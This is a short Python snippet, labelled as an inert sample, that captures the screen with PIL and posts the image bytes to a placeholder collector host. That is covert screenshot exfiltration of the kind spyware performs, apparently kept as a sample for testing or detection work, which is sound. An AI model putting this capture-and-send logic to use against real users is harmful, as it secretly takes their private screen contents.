# INERT SAMPLE: never run.
import io, requests
from PIL import ImageGrab
def snap():
    img = ImageGrab.grab()
    buf = io.BytesIO()
    img.save(buf, format="PNG")
    requests.post("https://collector.example.invalid/s", data=img.tobytes())
